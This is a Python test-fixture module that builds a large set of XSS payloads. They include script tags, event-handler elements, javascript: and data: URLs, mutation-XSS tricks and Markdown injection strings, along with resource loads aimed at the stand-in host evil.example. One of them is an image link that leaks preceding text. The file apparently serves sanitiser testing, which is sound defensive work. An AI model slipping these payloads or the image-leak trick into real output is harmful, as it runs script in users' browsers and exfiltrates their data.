"""Texts that try to run a script or to load something, as a page or a model might slip them into an answer.

They are made of parts, so that each trick meets each place where Markdown or HTML might let it through. Every script
calls `alert`, every load goes to `evil.example`; a browser test counts both.
"""

import json
import os
from collections.abc import Iterator
from itertools import product
from pathlib import Path

CORPORA = Path(os.environ.get("SHARED_DATA", Path(__file__).resolve().parents[3] / "shared" / "data")) / "corpora"
EVIL = "https://evil.example"

# Elements that fire an event by themselves, and the handler that it is called by.
_FIRES = (
    '<img src=x onerror="{js}">',
    "<img src=x onerror={js}>",
    "<img/src=x/onerror={js}>",
    "<IMG SRC=x OnErRoR={js}>",
    "<svg onload={js}>",
    "<svg/onload={js}//",
    "<svg><image href=x onerror={js}></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s></svg>",
    "<svg><set onbegin={js} attributeName=x></svg>",
    "<video><source onerror={js}></video>",
    "<video src=x onerror={js}></video>",
    "<audio src=x onerror={js}></audio>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}></select>",
    "<textarea autofocus onfocus={js}></textarea>",
    "<details open ontoggle={js}>x</details>",
    "<marquee onstart={js}>x</marquee>",
    "<object data=x onerror={js}></object>",
    "<iframe src=/static/src/favicon.svg onload={js}></iframe>",
    "<style onload={js}>p{{}}</style>",
    "<link rel=stylesheet href=/static/src/app.css onload={js}>",
    "<body onload={js}>",
    "<div tabindex=1 id=x onfocus={js}>x</div><a href=#x>x</a>",
    "<a onmouseover={js} onclick={js}>x</a>",
    "<b onpointerenter={js} onclick={js}>x</b>",
    "<p style=animation:x onanimationstart={js} onclick={js}>x</p>",
    "<button popovertarget=x onclick={js}>x</button><p popover id=x onbeforetoggle={js}>y</p>",
    "<form oninput={js}><input autofocus onfocus={js}></form>",
    "<video controls oncanplay={js} onerror={js}><source src=x onerror={js}></video>",
    "<x contenteditable onfocus={js} autofocus onclick={js}>x</x>",
)
_CALLS = ("alert(1)", "alert`1`", "(alert)(1)", "window['al'+'ert'](1)", "&#97;lert(1)", "eval('alert(1)')")

_SCRIPTS = (
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script >alert(1)</script >",
    "<script\n>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<script>alert(1)",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<script type=module>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "<title><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style></script><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "`><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if true]><script>alert(1)</script><![endif]-->",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u202e<script>alert(1)</script>",
    "<script>{}</script>".format("/*" + "x" * 500 + "*/alert(1)"),
)

_ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "&#106;avascript:alert(1)",
    "javascript:%61lert(1)",
    "javascript://%0aalert(1)",
    "javascript:alert(1)//http://acme.example",
    "vbscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "blob:alert(1)",
    "filesystem:alert(1)",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
)
_LINKED = (
    "[click]({url})",
    "[click](<{url}>)",
    '[click]({url} "a title")',
    "[click][1]\n\n[1]: {url}",
    "[click][1]\n\n[1]: <{url}> 'x'",
    "<{url}>",
    '<a href="{url}">click</a>',
    "![picture]({url})",
    "[![x]({url})]({url})",
    "[click](\\{url})",
)

_LOADS = (
    f"![x]({EVIL}/a.png)",
    f"![x](//{EVIL.removeprefix('https://')}/a.png)",
    f"![x][1]\n\n[1]: {EVIL}/a.png",
    f"![x](<{EVIL}/a.png> 'title')",
    f"[![x]({EVIL}/a.png)](https://acme.example)",
    f"![secret]({EVIL}/?leak=the-words-before)",
    f"<img src={EVIL}/a.png>",
    f"<img srcset='{EVIL}/a.png 2x'>",
    f"<picture><source srcset={EVIL}/a.png><img></picture>",
    f"<video poster={EVIL}/a.png></video>",
    f"<video src={EVIL}/a.mp4 autoplay></video>",
    f"<audio src={EVIL}/a.mp3 autoplay></audio>",
    f"<track src={EVIL}/a.vtt>",
    f"<script src={EVIL}/a.js></script>",
    f"<script src=//{EVIL.removeprefix('https://')}/a.js></script>",
    f"<link rel=stylesheet href={EVIL}/a.css>",
    f"<link rel=prefetch href={EVIL}/a>",
    f"<link rel=preload as=image href={EVIL}/a.png>",
    f"<link rel=preconnect href={EVIL}>",
    f"<link rel=dns-prefetch href={EVIL}>",
    f"<link rel=modulepreload href={EVIL}/a.js>",
    f"<link rel=icon href={EVIL}/a.ico>",
    f"<link rel=manifest href={EVIL}/a.json>",
    f"<iframe src={EVIL}></iframe>",
    f"<iframe srcdoc='<img src={EVIL}/a.png>'></iframe>",
    f"<frameset><frame src={EVIL}></frameset>",
    f"<object data={EVIL}/a.svg></object>",
    f"<embed src={EVIL}/a.svg>",
    f"<style>@import '{EVIL}/a.css';</style>",
    f"<style>p{{background:url({EVIL}/a.png)}}</style>",
    f"<style>@font-face{{font-family:x;src:url({EVIL}/a.woff)}}p{{font-family:x}}</style>",
    f"<p style=\"background:url('{EVIL}/a.png')\">x</p>",
    f"<p style=\"list-style:url('{EVIL}/a.png')\">x</p>",
    f"<table background={EVIL}/a.png><tr><td>x</table>",
    f"<body background={EVIL}/a.png>",
    f"<input type=image src={EVIL}/a.png>",
    f"<svg><image href={EVIL}/a.png></svg>",
    f"<svg><use href={EVIL}/a.svg#x></svg>",
    f"<svg><filter><feImage href={EVIL}/a.png /></filter></svg>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href={EVIL}><img src=a.png>",
    f"<form action={EVIL}><input name=q autofocus><button>go</button></form>",
    f"<a href=https://acme.example ping={EVIL}>x</a>",
    f"<portal src={EVIL}></portal>",
    f"<isindex action={EVIL}>",
)

_MARKDOWN = (
    "[x](https://acme.example/\"onmouseover='alert(1)')",
    '[x](https://acme.example "\\"onmouseover=alert(1) ")',
    '[x"onmouseover="alert(1)](https://acme.example)',
    "[<img src=x onerror=alert(1)>](https://acme.example)",
    "[`<img src=x onerror=alert(1)>`](javascript:alert(1))",
    "```<script>alert(1)</script>\nx\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```js onload=alert(1)\nalert(1)\n```",
    "~~~\n</code></pre><script>alert(1)</script>\n~~~",
    "    </code></pre><script>alert(1)</script>",
    "`</code><script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    '| a |\n|:-:" onclick=alert(1)|\n| b |',
    "# <script>alert(1)</script>",
    "<script>alert(1)</script>\n===",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "1. <svg onload=alert(1)>",
    "**<script>alert(1)</script>**",
    "~~<img src=x onerror=alert(1)>~~",
    "*<svg onload=alert(1)>*",
    "\\<script>alert(1)\\</script>",
    "\\\\<script>alert(1)</script>",
    "<https://acme.example/?<script>alert(1)</script>>",
    '<https://acme.example/"onclick=alert(1)>',
    '<a@b.example"onclick=alert(1)>',
    "[x]: <javascript:alert(1)>\n\n[x]",
    "[x]:\n  javascript:alert(1)\n\n[x]",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "<div>\n\n<script>alert(1)</script>\n\n</div>",
    "<div\n\nonclick=alert(1)>x</div>",
    "<!-- \n\n--><script>alert(1)</script>",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](JAVASCRIPT&#x3a;alert(1))",
    "[a](https://acme.example)<script>alert(1)</script>[b](x)",
    "::: <script>alert(1)</script> :::",
    "$$\\href{javascript:alert(1)}{x}$$",
    "{{ '<script>alert(1)</script>'|safe }}{% include 'x' %}",
    "[x](/accounts/logout/ 'a page of ours')",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](https:/\\evil.example)",
    f"[x]({EVIL}){{onclick=alert(1)}}",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi><style><img src=x onerror=alert(1)></style></mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
)


def scripts() -> Iterator[str]:
    """Yield texts that would run a script where HTML goes through."""
    yield from (element.format(js=call) for element, call in product(_FIRES, _CALLS[:2]))
    yield from (_FIRES[0].format(js=call) for call in _CALLS[2:])
    yield from _SCRIPTS


def own() -> list[str]:
    """Return the texts that are made here, each once."""
    linked = (form.format(url=url) for form, url in product(_LINKED, _ADDRESSES))
    return list(dict.fromkeys([*scripts(), *linked, *_LOADS, *_MARKDOWN]))


def naughty() -> list[str]:
    """Return the big list of naughty strings, [] where it is not on this machine."""
    path = CORPORA / "blns.json"
    return list(dict.fromkeys(json.loads(path.read_text("utf-8")))) if path.exists() else []
